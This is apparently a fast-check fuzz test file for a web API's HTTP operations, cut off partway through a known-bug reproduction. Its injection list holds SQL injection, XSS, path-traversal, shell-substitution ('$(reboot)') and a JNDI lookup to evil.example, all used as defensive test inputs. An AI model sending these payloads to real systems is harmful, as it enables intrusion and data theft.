/**
 * Hostile input: for every operation of src/http/operations.ts, fast-check mutates the operation's
 * valid request (wrong types, missing and extra fields, huge strings, unicode, NUL and lone
 * surrogates, negative and overflowing amounts, impossible dates, injection strings, ids that are
 * not UUIDs or are in capitals, arrays for objects, malformed JSON, other content types, forged
 * session cookies, malformed path escapes) and sends it, sequentially, through the real HTTP API
 * (app.inject) as a caller the permission table allows (the record's holder when an ownership rule
 * applies; sign-in as a user that does not exist, so no attempt can succeed or lock an account).
 *
 * Every answer must be below 500; a 4xx must be problem+json with a `code`; a 200/201 must have a
 * body. A request that is not accepted must change nothing: a trigger-based counter of committed
 * row changes is read after every request (requests Fastify refuses before any handler are counted
 * with the next), and the whole database (row counts and an MD5 of every row, audit events
 * included) is compared before and after each operation's run. A hostile request that happens to be
 * valid is accepted (2xx): it is counted separately and its changes become the new baseline.
 *
 * Answers matching a known bug (KNOWN_BUGS, each with its smallest reproduction marked it.fails)
 * are counted, not failed; anything else fails with the input, the answer and the server's log.
 * HOSTILE_SEED replays a run; HOSTILE_COLLECT=1 records every violation without stopping.
 */
import { Writable } from 'node:stream';
import { sql } from 'drizzle-orm';
import fc from 'fast-check';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fixedClock } from '../../src/app/context.ts';
import { createContext } from '../../src/app/create-context.ts';
import { DEMO_PASSWORD, DEMO_USERS } from '../../src/app/demo-data.ts';
import { ROLES, type Role } from '../../src/app/roles.ts';
import { createUser } from '../../src/app/users.ts';
import {
  expectedAnswer,
  type Fixture,
  OPERATIONS,
  type Operation,
  type OperationRequest,
  operationName,
} from '../../src/http/operations.ts';
import { HTTP_CODES } from '../../src/http/problems.ts';
import { buildServer } from '../../src/http/server.ts';
import { JOBS } from '../../src/jobs/registry.ts';
import { rowsOf } from '../../src/store/db.ts';
import { signedIn } from '../support/api.ts';
import { createTestDatabase, type TestDatabase } from '../support/database.ts';
import { learnerWithPdc } from '../support/learner.ts';
import { changedTables, fingerprint, MATRIX_USERS, seedFixture, sessionCookie, watchChanges } from '../support/operation-fixture.ts';
import { TEST_TODAY } from '../support/server.ts';

/** At least this many hostile requests per run, spread over the operations. */
const TARGET = Number(process.env.HOSTILE_TARGET ?? 10_200);
const RUNS_PER_OPERATION = Math.ceil(TARGET / OPERATIONS.length);
const SEED = Number(process.env.HOSTILE_SEED ?? Date.now() % 2_147_483_647);

// ---------------------------------------------------------------------------------------------
// A server whose error log lines (with stacks) are kept, so a 5xx can be reported with its cause.

interface LoggedServer {
  app: FastifyInstance;
  database: TestDatabase;
  /** The server's error log lines (pino JSON: the error's type, cause and stack frames). */
  errors: Record<string, unknown>[];
}

async function startLoggedServer(): Promise<LoggedServer> {
  const database = await createTestDatabase();
  const ctx = createContext(database.db, { clock: fixedClock(TEST_TODAY), demoMode: true });
  for (const u of DEMO_USERS) await createUser(ctx, null, { ...u, password: DEMO_PASSWORD });
  const errors: LoggedServer['errors'] = [];
  const sink = new Writable({
    write(chunk, _encoding, done) {
      for (const line of String(chunk).split('\n').filter(Boolean)) errors.push(JSON.parse(line));
      done();
    },
  });
  const logger = pino({ level: 'error' }, sink);
  const app = await buildServer({ ctx, engine: database.engine, webRoot: null, logger, signInRateLimit: 100_000, jobs: JOBS });
  return { app, database, errors };
}

// ---------------------------------------------------------------------------------------------
// Hostile values.

/** A raw JSON token, written as is (numbers JSON.stringify cannot write, malformed bodies). */
class Raw {
  constructor(readonly text: string) {}
}
/** A path or query value already percent-encoded (malformed escapes, encoded traversal). */
class Encoded {
  constructor(readonly text: string) {}
}

const HUGE = [
  'A'.repeat(100_000),
  '𝄞'.repeat(50_000),
  ' '.repeat(100_000),
  'é'.repeat(100_000),
  'a\u0000'.repeat(50_000),
  '\u202E'.repeat(100_000),
];
const UNICODE = [
  '👩‍👩‍👧‍👦',
  '🙂🙂🙂',
  '\u202Egnp.exe',
  'مرحبا بالعالم',
  'שלום עולם',
  'a\u0000b',
  '\u0000',
  'Ada\u0000',
  '\uD800',
  '\uDFFF',
  'x\uD83D',
  '\uDE00y',
  '\u200B',
  'Z\u0351\u0300\u0300\u0300',
  '\uFEFF',
  '\u2028\u2029',
  'ＡＢＣ',
  'İstanbul',
  'straße',
  '\r\n',
  '\t',
  '\u0007\u001b[31m',
  '\uFFFF',
  '\uFFFD',
];
const INJECTION = [
  "'; drop table persons; --",
  "' OR '1'='1",
  '1); select pg_sleep(5); --',
  "x' union select password_hash from users --",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a JNDI lookup string is the hostile input itself
  '${jndi:ldap://evil.example/a}',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '{{7*7}}',
  '%s%s%s%n',
  '$(reboot)',
  '`id`',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'NaN',
  '\\',
  '%',
  '_',
  '*',
  "O'Brien",
  '-- ',
  '/*',
  '\\x00',
];
const AMOUNTS = [
  '-1',
  '1e309',
  '99999999999999999999.99',
  '0.001',
  '-0',
  '-0.00',
  'NaN',
  'Infinity',
  '0x10',
  '1,000.00',
  ' 5.00',
  '５',
  '1e3',
  '',
  '.5',
  '5.',
  '+5.00',
  '00000000000000000001.00',
  '9007199254740993',
  '-99999999999999999999.99',
  '21474836.48',
  '92233720368547758.08',
  '999999999999999999',
  '0.00',
  // Within Number.MAX_SAFE_INTEGER cents, so each parses; their sums do not.
  '90071992547409.91',
  '45035996273704.96',
  '90071992547409.92',
];
const DATES = [
  '2025-02-30',
  '0000-00-00',
  '9999-99-99',
  '2025-13-01',
  '2025-00-10',
  '1899-12-31',
  '1900-01-01',
  '2199-12-31',
  '2200-01-01',
  '2025-1-1',
  '20250101',
  '2024-02-29',
  '2025-02-29',
  '+002025-01-01',
  '2025-01-01T00:00:00Z',
  '2025-01-01\u0000',
  '２０２５-01-01',
  '-2025-01-01',
  '2025-W01-1',
  '2025-001',
  '1970-01-01',
  '2038-01-19',
  '2026-06-16',
  '2099-12-31',
];
const IDS = [
  'not-a-uuid',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '1',
  '-1',
  '0',
  'null',
  '{}',
  '%',
  ' ',
  'zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz',
];
const NUMBERS: unknown[] = [
  -1,
  0,
  1.5,
  -0,
  2_147_483_647,
  2_147_483_648,
  -2_147_483_649,
  Number.MAX_SAFE_INTEGER,
  Number.MAX_SAFE_INTEGER + 2,
  1e308,
  Number.MIN_VALUE,
];
const RAW_NUMBERS = ['1e309', '-1e309', '99999999999999999999', '1.0', '1e2', '-0', '0.1e1', '1E400', '123456789012345678901234567890'].map(
  (t) => new Raw(t),
);
const KEYS = [
  'active',
  'version',
  'roles',
  'isAdmin',
  'id',
  'ownerId',
  'createdBy',
  'status',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  '',
  'k'.repeat(10_000),
  '👩‍👩‍👧‍👦',
  'a\u0000b',
  '$where',
  'extra',
];
const BOUNDARY = [0, 1, 49, 50, 51, 60, 61, 99, 100, 101, 200, 201, 254, 255, 500, 501, 1000, 1001, 2000, 2001, 5000, 5001].map((n) =>
  'x'.repeat(n),
);

const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => `a${String.fromCharCode(c)}b`);
const hostileString = fc.oneof(
  fc.constantFrom(...HUGE),
  fc.constantFrom(...UNICODE),
  fc.constantFrom(...INJECTION),
  fc.constantFrom(...AMOUNTS),
  fc.constantFrom(...DATES),
  fc.constantFrom(...IDS),
  fc.constantFrom(...BOUNDARY),
  fc.uuid(),
  loneSurrogate,
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
);
const wrongType = fc.oneof(
  fc.constantFrom<unknown>(null, true, false, [], {}, [[]], [{}], { value: 1 }),
  fc.constantFrom(...NUMBERS),
  fc.constantFrom(...RAW_NUMBERS),
  fc.integer(),
  fc.double(),
  fc.array(fc.oneof(fc.string({ maxLength: 5 }), fc.integer()), { maxLength: 4 }),
  fc.anything({ maxDepth: 2, maxKeys: 3 }),
);

/** A replacement for a field: themed by what the valid value looks like, plus anything hostile. */
function valueFor(base: unknown): fc.Arbitrary<unknown> {
  const themed: fc.Arbitrary<unknown>[] = [];
  if (typeof base === 'string') {
    if (/^\d{4}-\d{2}-\d{2}$/.test(base)) themed.push(fc.constantFrom(...DATES));
    if (/^-?\d+\.\d{2}$/.test(base)) themed.push(fc.constantFrom(...AMOUNTS));
    if (/^[0-9a-f-]{36}$/.test(base))
      themed.push(fc.constantFrom(...IDS, base.toUpperCase(), `${base} `, `${base}\u0000`, base.slice(0, 35)), fc.uuid());
    themed.push(fc.constantFrom(`${base}\u0000`, ` ${base} `, base.toUpperCase(), `${base}${'x'.repeat(300)}`));
  }
  if (typeof base === 'number')
    themed.push(fc.constantFrom(...NUMBERS), fc.constantFrom(...RAW_NUMBERS), fc.constantFrom(String(base), `${base}`));
  if (Array.isArray(base))
    themed.push(
      fc.constantFrom<unknown>([], [null], Array(100).fill(base[0] ?? 'x'), [base], {}),
      fc.array(hostileString, { maxLength: 25 }),
    );
  if (base !== null && typeof base === 'object' && !Array.isArray(base))
    themed.push(fc.constantFrom<unknown>([], [base], 'object', Object.values(base as object)));
  return fc.oneof(
    ...themed.map((arbitrary) => ({ arbitrary, weight: 3 })),
    { arbitrary: hostileString, weight: 2 },
    { arbitrary: wrongType, weight: 2 },
  );
}

// ---------------------------------------------------------------------------------------------
// Hostile requests: the operation's request plus transport-level choices, and their mutations.

interface Hostile {
  params: Record<string, string | Encoded>;
  query: Record<string, unknown>;
  /** undefined: no body. */
  body: unknown;
  /** Sent instead of the serialised body. */
  rawBody?: string;
  contentType?: string;
  /** Replaces the caller's session cookie. */
  cookie?: string;
  /** What was done, for the report. */
  mutations: string[];
}

type Path = readonly (string | number)[];
type Mutation = (h: Hostile) => void;

const clone = <T>(value: T): T => structuredClone(value);

/** Every field path inside a value (objects and arrays), with the value found there. */
function slots(value: unknown, prefix: Path = [], depth = 0): { path: Path; value: unknown }[] {
  if (depth > 4 || value === null || typeof value !== 'object') return [];
  const entries = Array.isArray(value) ? value.map((v, i) => [i, v] as const) : Object.entries(value as Record<string, unknown>);
  return entries.flatMap(([key, v]) => [{ path: [...prefix, key], value: v }, ...slots(v, [...prefix, key], depth + 1)]);
}

function setAt(root: unknown, path: Path, value: unknown): unknown {
  if (path.length === 0) return value;
  // A body replaced by a primitive (or a raw token) earlier in the same request becomes an object again.
  const container = (root !== null && typeof root === 'object' && !(root instanceof Raw) ? root : {}) as Record<string | number, unknown>;
  const [head, ...rest] = path;
  container[head!] = setAt(container[head!], rest, value);
  return container;
}

function deleteAt(root: unknown, path: Path): void {
  const parent = path.slice(0, -1).reduce<any>((node, key) => node?.[key], root);
  if (parent && typeof parent === 'object') {
    if (Array.isArray(parent)) parent.splice(Number(path.at(-1)), 1);
    else delete parent[path.at(-1)!];
  }
}

const label = (value: unknown): string => {
  if (value instanceof Raw || value instanceof Encoded) return `raw ${value.text.slice(0, 40)}`;
  const text = typeof value === 'string' ? JSON.stringify(value) : (JSON.stringify(value) ?? String(value));
  return text.length > 60 ? `${text.slice(0, 60)}...(${text.length} chars)` : text;
};

const WHOLE_BODIES: unknown[] = [
  [],
  [{}],
  'a string',
  123,
  null,
  true,
  new Raw('{"a":'),
  new Raw('{'),
  new Raw('{"version":1,"version":"2"}'),
  new Raw('\u0000'),
  new Raw(`${'['.repeat(5000)}${']'.repeat(5000)}`),
  new Raw('{"__proto__":{"isAdmin":true}}'),
  new Raw('{"constructor":{"prototype":{"isAdmin":true}}}'),
  new Raw('"\\ud800"'),
  new Raw('[1,2,'),
  new Raw('NaN'),
  new Raw('1e309'),
  new Raw(' '),
  new Raw('\uFEFF{}'),
];
const CONTENT_TYPES = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/json; charset=utf-16',
  'application/xml',
  'application/json, text/plain',
  'application/jsonx',
  'application/json; charset=latin1',
];
const COOKIES = ['', 'x', 'A'.repeat(4000), "'; drop table sessions; --", '%00', 'null', 'undefined', '🙂', '../../etc/passwd'];
const PARAM_RAW = [
  '%ZZ',
  '%',
  '%ED%A0%80',
  '..%2F..%2Fetc%2Fpasswd',
  '%00',
  '%2e%2e',
  'a%2Fb',
  '%C0%AF',
  '%F0%9F%99%82',
  '%E2%80%AE',
  `${'%41'.repeat(200)}`,
].map((t) => new Encoded(t));

function mutationsFor(base: Hostile): fc.Arbitrary<Mutation> {
  const bodySlots = slots(base.body);
  const objectSlots: Path[] = [
    [],
    ...bodySlots.filter((s) => s.value !== null && typeof s.value === 'object' && !Array.isArray(s.value)).map((s) => s.path),
  ];
  const choices: { arbitrary: fc.Arbitrary<Mutation>; weight: number }[] = [];
  if (bodySlots.length) {
    const setField = fc.constantFrom(...bodySlots).chain((slot) =>
      valueFor(slot.value).map<Mutation>((value) => (h) => {
        h.body = setAt(h.body, slot.path, value);
        h.mutations.push(`body.${slot.path.join('.')} = ${label(value)}`);
      }),
    );
    const removeField = fc.constantFrom(...bodySlots).map<Mutation>((slot) => (h) => {
      deleteAt(h.body, slot.path);
      h.mutations.push(`body.${slot.path.join('.')} removed`);
    });
    choices.push({ arbitrary: setField, weight: 10 }, { arbitrary: removeField, weight: 3 });
  }
  const extraField = fc
    .tuple(fc.constantFrom(...objectSlots), fc.constantFrom(...KEYS), fc.oneof(hostileString, wrongType))
    .map<Mutation>(([path, key, value]) => (h) => {
      const plain = (node: unknown): node is Record<string, unknown> =>
        node !== null && typeof node === 'object' && !Array.isArray(node) && !(node instanceof Raw);
      if (!plain(h.body)) h.body = {};
      const target = path.reduce<any>((node, k) => node?.[k], h.body);
      // An own property (even "__proto__" or "constructor"), on plain objects only.
      if (plain(target)) Object.defineProperty(target, key, { value, enumerable: true, configurable: true, writable: true });
      h.mutations.push(`body.${[...path, key].join('.').slice(0, 60)} added = ${label(value)}`);
    });
  const wholeBody = fc
    .constantFrom(...WHOLE_BODIES, ...(base.body === undefined ? [] : [[base.body], { body: base.body }]))
    .map<Mutation>((value) => (h) => {
      h.body = value instanceof Raw ? value : clone(value);
      h.mutations.push(`body = ${label(value)}`);
    });
  const contentType = fc.constantFrom(...CONTENT_TYPES).map<Mutation>((type) => (h) => {
    h.contentType = type;
    if (h.body === undefined) h.body = {};
    h.mutations.push(`content-type ${type}`);
  });
  const cookie = fc.constantFrom(...COOKIES).map<Mutation>((value) => (h) => {
    h.cookie = value;
    h.mutations.push(`cookie ${label(value)}`);
  });
  choices.push(
    { arbitrary: extraField, weight: 3 },
    { arbitrary: wholeBody, weight: 2 },
    { arbitrary: contentType, weight: 1 },
    { arbitrary: cookie, weight: 1 },
  );

  const paramNames = Object.keys(base.params);
  if (paramNames.length) {
    const param = fc
      .tuple(
        fc.constantFrom(...paramNames),
        fc.oneof(
          valueFor(base.params[paramNames[0]!]).filter((v) => typeof v === 'string'),
          fc.constantFrom(...PARAM_RAW),
          hostileString,
        ),
      )
      .map<Mutation>(([name, value]) => (h) => {
        h.params[name] = value as string | Encoded;
        h.mutations.push(`params.${name} = ${label(value)}`);
      });
    choices.push({ arbitrary: param, weight: 6 });
  }
  const queryNames = Object.keys(base.query);
  const query = fc
    .tuple(
      fc.constantFrom(...queryNames, 'extra', 'q', '__proto__'),
      fc.oneof(hostileString, fc.array(hostileString, { minLength: 2, maxLength: 3 }), fc.constantFrom(...PARAM_RAW)),
    )
    .map<Mutation>(([name, value]) => (h) => {
      h.query[name] = value;
      h.mutations.push(`query.${name} = ${label(value)}`);
    });
  choices.push({ arbitrary: query, weight: queryNames.length ? 6 : 1 });
  if (queryNames.length) {
    choices.push({
      arbitrary: fc.constantFrom(...queryNames).map<Mutation>((name) => (h) => {
        delete h.query[name];
        h.mutations.push(`query.${name} removed`);
      }),
      weight: 1,
    });
  }
  return fc.oneof(...choices);
}

function hostileRequests(base: Hostile): fc.Arbitrary<Hostile> {
  return fc.array(mutationsFor(base), { minLength: 1, maxLength: 3 }).map((mutations) => {
    const h: Hostile = { params: { ...base.params }, query: clone(base.query), body: clone(base.body), mutations: [] };
    for (const mutate of mutations) mutate(h);
    return h;
  });
}

// ---------------------------------------------------------------------------------------------
// Sending: our own JSON writer (raw tokens, lone surrogates) and URL encoder (WTF-8 for lone surrogates).

function json(value: unknown): string {
  if (value instanceof Raw) return value.text;
  if (value instanceof Encoded) return JSON.stringify(value.text);
  if (Array.isArray(value)) return `[${value.map((v) => (v === undefined ? 'null' : json(v))).join(',')}]`;
  if (value !== null && typeof value === 'object') {
    return `{${Object.entries(value)
      .filter(([, v]) => v !== undefined)
      .map(([k, v]) => `${JSON.stringify(k)}:${json(v)}`)
      .join(',')}}`;
  }
  return JSON.stringify(value) ?? 'null';
}

/** Percent-encodes, writing a lone surrogate as its (invalid) 3-byte sequence. */
function encode(value: unknown): string {
  if (value instanceof Encoded) return value.text;
  const text = typeof value === 'string' ? value : json(value);
  let out = '';
  for (const char of text) {
    const code = char.codePointAt(0)!;
    if (code >= 0xd800 && code <= 0xdfff)
      out += [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)]
        .map((b) => `%${b.toString(16).toUpperCase()}`)
        .join('');
    else out += encodeURIComponent(char);
  }
  return out;
}

function urlOfHostile(op: Operation, h: Hostile): string {
  const path = op.path.replace(/:([A-Za-z_]+)/g, (_, name: string) => encode(h.params[name] ?? ''));
  const pairs = Object.entries(h.query).flatMap(([k, v]) =>
    Array.isArray(v) ? v.map((item) => `${encode(k)}=${encode(item)}`) : [`${encode(k)}=${encode(v)}`],
  );
  return pairs.length ? `${path}?${pairs.join('&')}` : path;
}

function sendHostile(app: FastifyInstance, op: Operation, h: Hostile, cookie: string | null): Promise<LightMyRequestResponse> {
  const session = h.cookie ?? cookie;
  const hasBody = h.body !== undefined || h.rawBody !== undefined;
  const headers: Record<string, string> = {};
  if (session !== null) headers.cookie = `waypoint_session=${encode(session)}`;
  if (hasBody) headers['content-type'] = h.contentType ?? 'application/json';
  return app.inject({ method: op.method, url: urlOfHostile(op, h), headers, ...(hasBody && { payload: h.rawBody ?? json(h.body) }) });
}

// ---------------------------------------------------------------------------------------------

/** Who sends an operation's hostile requests: a caller the table allows (the record's holder when there is one). */
function hostileCaller(op: Operation): Role | null {
  if (op.requires === 'public') return null;
  if (op.ownership) return op.ownership.holder;
  return ROLES.find((role) => expectedAnswer(op, role).outcome === 'allowed') ?? null;
}

/** The base of an operation's hostile requests: its valid fixture request (sign-in: a user that does not exist, so nothing can succeed). */
function baseOf(op: Operation, fixture: Fixture, userId: string | null): Hostile {
  const request: OperationRequest =
    operationName(op) === 'POST /api/session'
      ? { body: { username: 'hostile.nobody', password: 'not-the-password-1' } }
      : op.request(fixture, { userId });
  return { params: { ...(request.params ?? {}) }, query: { ...(request.query ?? {}) }, body: clone(request.body), mutations: [] };
}

let server: LoggedServer;
let fixture: Fixture;
let watch: Awaited<ReturnType<typeof watchChanges>>;
const cookies = new Map<Role, string>();
const stats = {
  sent: 0,
  accepted: 0,
  acceptedWrites: 0,
  refused: 0,
  deferredCounts: 0,
  byStatus: new Map<number, number>(),
  acceptedBy: new Map<string, number>(),
  writeSamples: new Map<string, string[]>(),
};
/** The whole database's fingerprint between operations (each operation's "after" is the next one's "before"). */
let boundary: Record<string, string> | null = null;
/** Answers that break the contract: unknown ones fail the test; known ones (KNOWN_BUGS) are counted. */
const violations: {
  operation: string;
  status: number;
  mutations: string[];
  url: string;
  problem: string;
  known: string | null;
  log: string;
}[] = [];
const COLLECT = process.env.HOSTILE_COLLECT === '1';
let startedAt = Date.now();

beforeAll(async () => {
  server = await startLoggedServer();
  fixture = await seedFixture(server.app, server.database.db);
  for (const role of ROLES) cookies.set(role, await sessionCookie(server.app, MATRIX_USERS[role]));
  watch = await watchChanges(server.database.db);
  console.log(`hostile input: seed ${SEED} (HOSTILE_SEED=${SEED} to replay), ${RUNS_PER_OPERATION} requests per operation`);
  startedAt = Date.now();
}, 120_000);
afterAll(async () => {
  await server?.app.close();
  await server?.database.destroy();
});

/**
 * Whether Fastify refused the request before any hook that reads the database ran: a schema
 * failure (validation runs before the session preHandler) or Fastify's own 4xx (content type, body
 * size, malformed URL). Their change count is taken with the next request's (the counter covers
 * every request since the last count) instead of after each, which halves the queries.
 */
function refusedBeforeHandler(response: LightMyRequestResponse): boolean {
  if (response.statusCode < 400 || response.statusCode >= 500) return false;
  const body = (() => {
    try {
      return JSON.parse(response.body) as { rule?: unknown; code?: unknown };
    } catch {
      return null;
    }
  })();
  return body?.rule === 'Waypoint API schema' || (typeof body?.code === 'string' && (HTTP_CODES as readonly string[]).includes(body.code));
}

/** What is wrong with an answer, if anything: a 5xx, or a 4xx that is not problem+json with a code. */
function contractProblem(response: LightMyRequestResponse): string | null {
  if (response.statusCode >= 500) return `${response.statusCode}`;
  if ((response.statusCode === 200 || response.statusCode === 201) && response.body === '')
    return `${response.statusCode} with an empty body`;
  if (response.statusCode < 400) return null;
  if (!/^application\/problem\+json/.test(String(response.headers['content-type'])))
    return `${response.statusCode} as ${response.headers['content-type']}`;
  let code: unknown;
  try {
    code = (JSON.parse(response.body) as { code?: unknown }).code;
  } catch {
    return `${response.statusCode} whose body is not JSON`;
  }
  return typeof code === 'string' && code ? null : `${response.statusCode} without a code`;
}

// ---------------------------------------------------------------------------------------------
// Known bugs. Each has its smallest reproduction below, marked it.fails (it passes while the bug
// is there); the hostile run counts answers that match one instead of failing. When a bug is
// fixed its it.fails test starts failing: remove the reproduction and the KNOWN_BUGS entry.

interface KnownBug {
  readonly id: string;
  readonly matches: (response: LightMyRequestResponse, log: string, operation: string) => boolean;
}

const _problemCode = (response: LightMyRequestResponse): unknown => {
  try {
    return (JSON.parse(response.body) as { code?: unknown }).code;
  } catch {
    return undefined;
  }
};

// Every bug this test found has been fixed (NUL and lone surrogates refused at the edge, amounts
// capped, uuids lower-cased, router errors as problem+json); a new one fails the test.
const KNOWN_BUGS: readonly KnownBug[] = [];

/**
 * Text fields where a NUL character gives a 500 (found by putting "a\u0000b" in every string
 * field of every operation's valid request), with the line that sends it to the database.
 */
const NUL_500: readonly { operation: string; field: string; at: string }[] = [
  { operation: 'POST /api/session', field: 'body.username', at: 'signIn src/app/users.ts:84 (select users)' },
  { operation: 'POST /api/users', field: 'body.displayName', at: 'src/app/users.ts:63 (insert users)' },
  { operation: 'GET /api/people', field: 'query.q', at: 'searchPeople src/app/people.ts:236' },
  { operation: 'POST /api/people', field: 'body.givenName', at: 'src/app/people.ts:125 (insert persons)' },
  { operation: 'POST /api/people', field: 'body.familyName', at: 'src/app/people.ts:125 (insert persons)' },
  { operation: 'POST /api/people', field: 'body.address.line1', at: 'src/app/people.ts:141 (insert person_details, jsonb: 22P05)' },
  { operation: 'POST /api/people', field: 'body.address.line2', at: 'src/app/people.ts:141 (jsonb: 22P05)' },
  { operation: 'POST /api/people', field: 'body.address.city', at: 'src/app/people.ts:141 (jsonb: 22P05)' },
  { operation: 'POST /api/people', field: 'body.address.province', at: 'src/app/people.ts:141 (jsonb: 22P05)' },
  { operation: 'PATCH /api/people/:id', field: 'body.givenName', at: 'updateVersioned src/store/versioned.ts:21 <- src/app/people.ts:184' },
  { operation: 'PATCH /api/people/:id', field: 'body.familyName', at: 'updateVersioned <- src/app/people.ts:184' },
  { operation: 'POST /api/cases/:id/close', field: 'body.reason', at: 'updateVersioned <- src/app/cases.ts:109' },
  { operation: 'POST /api/cases/:id/assessments', field: 'body.notes', at: 'src/app/assessments.ts:56 (insert assessments)' },
  { operation: 'PATCH /api/assessments/:id', field: 'body.notes', at: 'updateVersioned <- src/app/assessments.ts:89' },
  { operation: 'POST /api/assessments/:id/complete', field: 'body.notes', at: 'updateVersioned <- src/app/assessments.ts:89' },
  { operation: 'GET /api/audit', field: 'query.recordId', at: 'searchAudit src/app/audit-search.ts' },
  { operation: 'POST /api/service-plans/:id/close', field: 'body.note', at: 'updateVersioned <- src/app/service-plans/plans.ts:144' },
  {
    operation: 'POST /api/service-plans/:id/items',
    field: 'body.description',
    at: 'src/app/service-plans/items.ts:61 (insert plan_items)',
  },
  { operation: 'PATCH /api/plan-items/:id', field: 'body.description', at: 'updateVersioned <- src/app/service-plans/items.ts:111' },
  { operation: 'POST /api/people/:id/interactions', field: 'body.note', at: 'src/app/interactions.ts:21 (insert interactions)' },
  { operation: 'POST /api/pdcs/:id/evidence', field: 'body.note', at: 'src/app/benefits/evidence.ts:80 (insert evidence_versions)' },
  {
    operation: 'POST /api/evidence-versions/:id/correct',
    field: 'body.note',
    at: 'src/app/benefits/evidence.ts:134 (insert evidence_versions)',
  },
  { operation: 'POST /api/evidence/:id/change', field: 'body.note', at: 'src/app/benefits/evidence.ts:188 (insert evidence_versions)' },
  {
    operation: 'POST /api/evidence-versions/:id/approval',
    field: 'body.reason',
    at: 'updateVersioned <- src/app/benefits/evidence.ts:270',
  },
];

/** Fields where a lone surrogate gives a 500: they are written to jsonb columns (text columns store U+FFFD instead). */
const LONE_SURROGATE_500: readonly { operation: string; field: string; at: string }[] = [
  { operation: 'POST /api/people', field: 'body.address.line1', at: 'src/app/people.ts:141 (insert person_details.value, jsonb)' },
  { operation: 'POST /api/people', field: 'body.address.line2', at: 'src/app/people.ts:141 (jsonb)' },
  { operation: 'POST /api/people', field: 'body.address.city', at: 'src/app/people.ts:141 (jsonb)' },
  { operation: 'POST /api/people', field: 'body.address.province', at: 'src/app/people.ts:141 (jsonb)' },
  {
    operation: 'POST /api/evidence-versions/:id/approval',
    field: 'body.reason',
    at: 'recordAudit src/app/audit.ts:20 <- src/app/benefits/evidence.ts:276 (audit_events.after, jsonb)',
  },
];

/** The operation's valid request with one field set to `value`, sent as the hostile caller. */
async function sendWithField(operation: string, field: string, value: unknown): Promise<LightMyRequestResponse> {
  const op = OPERATIONS.find((o) => operationName(o) === operation)!;
  const role = hostileCaller(op);
  const base = baseOf(op, fixture, role === null ? null : fixture.users[MATRIX_USERS[role]]!);
  const [where, ...path] = field.split('.') as ['body' | 'query' | 'params', ...string[]];
  base[where] = setAt(base[where], path, value) as never;
  return sendHostile(server.app, op, base, role === null ? null : cookies.get(role)!);
}

describe('known bugs (smallest reproductions; it.fails while the bug is there)', () => {
  for (const { operation, field, at } of NUL_500) {
    // 500 INTERNAL; the log shows the PostgreSQL error raised at `at`. Expected: 400 naming the field.
    it(`a NUL character in ${field} of ${operation} is refused with a 4xx, not a 500 (${at})`, async () => {
      const changesBefore = await watch.count();
      const response = await sendWithField(operation, field, 'a\u0000b');
      expect(await watch.count()).toBe(changesBefore);
      expect(response.statusCode, response.body).toBeLessThan(500);
    });
  }

  for (const { operation, field, at } of LONE_SURROGATE_500) {
    // 500 INTERNAL; the log shows PostgreSQL's 22P02 raised at `at`. Expected: 400 naming the field (or the text stored as given).
    it(`a lone surrogate in ${field} of ${operation} is refused with a 4xx, not a 500 (${at})`, async () => {
      const changesBefore = await watch.count();
      const response = await sendWithField(operation, field, 'a\uD800b');
      expect(await watch.count()).toBe(changesBefore);
      expect(response.statusCode, response.body).toBeLessThan(500);
    });
  }

  // POST /api/pdcs/:id/what-if {"rates":{"core-essential":{"1 adult":"90071992547409.92",...}}}: 500, the log shows
  // Error "not an amount" at money (src/policy/benefit-rates.ts:20) <- lookupRate (:123) <- rateBook (:108) <- compositionAmount
  // (src/domain/benefits/household-month.ts:52) <- ... <- previewDetermination (src/app/benefits/determinations.ts:172).
  it('a what-if rate past the largest amount (90071992547409.92) is refused with a 4xx, not a 500', async () => {
    const amount = '90071992547409.92';
    const response = await sendWithField('POST /api/pdcs/:id/what-if', 'body.rates', {
      'core-essential': { '1 adult': amount, '2 adults': amount },
    });
    expect(response.statusCode, response.body).toBeLessThan(500);
  });

  // The same with 90071992547409.91 (a valid amount): RangeError at cents (src/domain/money.ts:29) <- sum (:105) <- householdMonth
  // (src/domain/benefits/household-month.ts:216) <- compute (src/domain/benefits/determine.ts:85) <- computeMonths (determinations.ts:36).
  it('a what-if rate whose month cannot be added up (90071992547409.91) is refused with a 4xx, not a 500', async () => {
    const amount = '90071992547409.91';
    const response = await sendWithField('POST /api/pdcs/:id/what-if', 'body.rates', {
      'core-essential': { '1 adult': amount, '2 adults': amount },
    });
    expect(response.statusCode, response.body).toBeLessThan(500);
  });

  // POST /api/simulations with shelter and child-care evidence of 90071992547409.91 each: RangeError at cents <- sum <- summarise
  // (src/domain/benefits/household-month.ts:227) <- determineHousehold <- simulate (src/app/simulation.ts:154).
  it('a simulated household whose month cannot be added up is refused with a 4xx, not a 500', async () => {
    const response = await sendWithField('POST /api/simulations', 'body.evidence', [
      { type: 'shelter', subtype: 'renting', amount: '90071992547409.91', period: { start: '2025-09-01' } },
      { type: 'child-care', amount: '90071992547409.91', period: { start: '2025-09-01' } },
    ]);
    expect(response.statusCode, response.body).toBeLessThan(500);
  });

  // Evidence of 90071992547409.91 is accepted (201); from then on the case's preview (and apply, a partner's confirm, a
  // training change: everything that reassesses it) answers 500 with the RangeError above, until the version is discarded.
  it('evidence amounts a case cannot add up are refused when entered, so the case can still be previewed', async () => {
    const ada = await signedIn(server.app, 'official.ada');
    const dana = await signedIn(server.app, 'lbc.dana');
    const learner = await learnerWithPdc(ada);
    const added = await dana.post(`/api/pdcs/${learner.pdcId}/evidence`, {
      type: 'child-care',
      amount: '90071992547409.91',
      periodStart: '2026-09-01',
      periodEnd: '2026-09-30',
    });
    const preview = await dana.get(`/api/pdcs/${learner.pdcId}/preview`);
